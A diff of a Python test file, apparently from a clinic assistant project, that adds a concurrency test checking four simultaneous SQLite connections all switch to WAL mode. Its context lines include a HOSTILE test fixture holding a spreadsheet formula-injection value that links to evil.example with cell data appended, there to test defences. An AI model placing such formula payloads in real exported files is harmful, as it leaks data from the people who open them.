@@ -8,7 +8,9 @@ import csv
 import logging
 import sqlite3
 import stat
+import threading
 import warnings
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import List
 
@@ -19,6 +21,7 @@ from assistant.callbacks import Base, CallbackDraft, CallbackStore
 from assistant.clinic import ClinicConfigError, parse_clinic
 from assistant.knowledge import PROJECT_ROOT
 from assistant.rate_limits import Limiter, RateLimits, parse_rate_limits
+from assistant.sqlite_hygiene import use_wal
 
 HOSTILE = {
     "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
@@ -172,6 +175,27 @@ def clinic_with(rate_limits: object) -> dict:
     raw = yaml.safe_load((PROJECT_ROOT / "clinic.yml").read_text(encoding="utf-8"))
     raw["rate_limits"] = rate_limits
     return raw
+
+
+def test_processes_opening_a_new_database_together_all_get_wal(tmp_path: Path) -> None:
+    """Switching a new file to WAL answered "database is locked" at once to the
+    loser of a race, without the busy timeout (23 failures in 200 four-way races
+    before use_wal; it failed CI through the lock store)."""
+    for trial in range(40):
+        path = tmp_path / f"race-{trial}.db"
+        start = threading.Barrier(4)
+
+        def open_and_write() -> str:
+            start.wait()
+            connection = sqlite3.connect(path, timeout=30, isolation_level=None)
+            use_wal(connection)
+            connection.execute("CREATE TABLE IF NOT EXISTS t (a)")
+            mode = connection.execute("PRAGMA journal_mode").fetchone()[0]
+            connection.close()
+            return mode
+
+        with ThreadPoolExecutor(4) as pool:
+            assert list(pool.map(lambda _: open_and_write(), range(4))) == ["wal"] * 4
 
 
 def test_rate_limits_come_from_clinic_yml_with_defaults() -> None:
